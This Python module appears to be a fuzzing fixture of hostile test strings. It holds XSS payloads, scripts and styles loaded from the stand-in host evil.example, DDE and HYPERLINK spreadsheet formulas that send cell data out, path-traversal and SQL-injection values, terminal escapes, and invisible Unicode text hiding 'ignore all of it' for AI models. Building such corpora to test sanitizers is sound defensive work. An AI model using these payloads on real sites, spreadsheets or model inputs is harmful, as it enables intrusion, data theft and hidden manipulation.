"""Two hundred strings that were written to be more than text. Each that runs tells on itself by `alert`."""

from itertools import product
from typing import Final
from urllib.parse import quote

FOREIGN: Final = "evil.example"
"""Nothing may ever be fetched from there."""
_RUN: Final = "alert(1)"
_PICTURE: Final = f"https://{FOREIGN}/p.png"

_ELEMENTS: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=//{FOREIGN}/x.js></sCrIpT>",
    f"<script>{_RUN}//<script>",
    f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\x0c>{_RUN}</script>",
    f"<script>/*</title></style></textarea></script><script>*/{_RUN}</script>",
    f"<style>@import 'https://{FOREIGN}/x.css';</style>",
    f"<style>*{{background:url({_PICTURE})}}</style>",
    f"<link rel=stylesheet href=https://{FOREIGN}/x.css>",
    f"<link rel=prefetch href=https://{FOREIGN}/x>",
    f"<base href=https://{FOREIGN}/>",
    f"<meta http-equiv=refresh content='0;url=https://{FOREIGN}/'>",
    f"<iframe src=https://{FOREIGN}/></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=https://{FOREIGN}/x.swf></object>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src=https://{FOREIGN}/x.svg>",
    f"<form action=https://{FOREIGN}/><button>go</button></form>",
    f"<form><button formaction=javascript:{_RUN}>go</button></form>",
    f"<isindex action=javascript:{_RUN} type=image>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>go</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'></use></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><a xlink:href=javascript:{_RUN}>go</a></math>",
    f"<math><mi><mglyph><style><img src=x onerror={_RUN}></style></mglyph></mi></math>",
    f"<math><annotation-xml encoding=text/html><script>{_RUN}</script></annotation-xml></math>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml version='1.0'?><x onclick={_RUN}>",
    f"<xss style=animation-name:x onanimationstart={_RUN}>",
    "<plaintext>",
    "<textarea><xmp><title>",
)
_EVENTS: Final = (
    *("error", "load", "click", "focus", "mouseover", "pointerenter"),
    *("toggle", "begin", "animationend", "transitionend", "beforetoggle", "wheel"),
)
_HANDLERS: Final = tuple(
    shape.format(event=event, run=_RUN)
    for shape, event in product(
        ("<img src=x on{event}={run}>", "<details open on{event}='{run}'>", "<svg/on{event}={run}>"), _EVENTS
    )
)
_BREAKOUTS: Final = tuple(
    opening + inside
    for opening, inside in product(
        ('"', "'", "`", "\\'", '">', "'>", "</title>", "</textarea>", "</script>", "-->"),
        (f" onfocus={_RUN} autofocus x=", f"<img src=x onerror={_RUN}>"),
    )
)
_TEMPLATES: Final = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{%print(alert(1))%}",
    "[[${alert(1)}]]",
    "';alert(1)//",
    '");alert(1)//',
    "*/alert(1)/*",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
URLS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript://{FOREIGN}/%0a{_RUN}",
    "vbscript:msgbox(1)",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"blob:https://{FOREIGN}/1",
    "file:///etc/passwd",
    f"//{FOREIGN}/p.png",
    f"/\\{FOREIGN}/p.png",
    _PICTURE,
    f"http://{FOREIGN}:80@127.0.0.1/",
    f"https://{FOREIGN}/{quote('<script>')}",
    f"intent://{FOREIGN}#Intent;end",
)
_MARKDOWN: Final = (
    f"![picture]({_PICTURE})",
    f"![picture][1]\n\n[1]: {_PICTURE}",
    f"[go](javascript:{_RUN})",
    f"[go](<data:text/html,<script>{_RUN}</script>>)",
    f"<https://{FOREIGN}/>",
    f"[![x]({_PICTURE})](https://{FOREIGN}/)",
    f"```html\n<script>{_RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
)
_STYLES: Final = (
    f"background:url({_PICTURE})",
    f"}}body{{background:url({_PICTURE})}}",
    "position:fixed;inset:0;z-index:99999",
    "expression(alert(1))",
)
_TERMINAL: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    f"\x1b]8;;https://{FOREIGN}/\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred",
    "over\rwritten",
    "back\x08\x08\x08space",
    "bell\x07",
    "end\x00of it",
    "\x7fdelete\x85next",
)
_HIDING: Final = (
    "\u202egpj.exe\u202c",
    "\u2066left\u2069 \u2067right\u2069",
    "admin\u200b",
    "zero\u200cwidth\u200djoiners",
    "\ufeffmark",
    "soft\u00adhyphen",
    "word\u2060joiner\u2061\u2062\u2063",
    "".join(chr(0xE0000 + ord(one)) for one in "ignore all of it") + "tags",
    "vary\ufe0f\ufe00\U000e0100\U000e01ef",
    "\u115f\u1160\u3164\uffa0fillers",
    "line\u2028separators\u2029",
    "no\u00a0break\u2003em\u3000wide",
    "\u034fgrapheme\u17b4\u17b5\u180e",
    "\ue000private\U000f0000",
    "\ufff9anchor\ufffaed\ufffb",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\u0430dmin \u0440aypal",
    "z\u0351\u0363\u0357a\u0343\u0346l\u0348g\u0322o",
    "\u061cmark \u200f\u200e",
    "\u2800braille\u2800",
)
_NAMES: Final = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "then",
    "valueOf",
    "$$typeof",
    "dangerouslySetInnerHTML",
    "children",
    "key",
    "ref",
    "null",
    "undefined",
    "NaN",
    "..",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "?a=b#c",
    "' OR 1=1 --",
    '{"a":1}',
)
FORMULAS: Final = (
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    f'=HYPERLINK("https://{FOREIGN}/?"&A1,"go")',
    f'=IMPORTXML("https://{FOREIGN}/","//a")',
    "\t=1+1",
    "\r=1+1",
)
_LONG: Final = ("A" * 9_000, "long " * 900, "<b>" * 900)

PAYLOADS: Final = (
    *_ELEMENTS,
    *_HANDLERS,
    *_BREAKOUTS,
    *_TEMPLATES,
    *URLS,
    *_MARKDOWN,
    *_STYLES,
    *_TERMINAL,
    *_HIDING,
    *_NAMES,
    *FORMULAS,
    *_LONG,
)


def joined(most_chars: int) -> list[str]:
    """All of them in as few texts of at most so many characters as it takes; what is longer is cut."""
    texts = [""]
    for payload in PAYLOADS:
        piece = payload[:most_chars]
        if len(texts[-1]) + len(piece) + 1 > most_chars:
            texts.append("")
        texts[-1] = f"{texts[-1]} {piece}".strip(" ")
    return texts
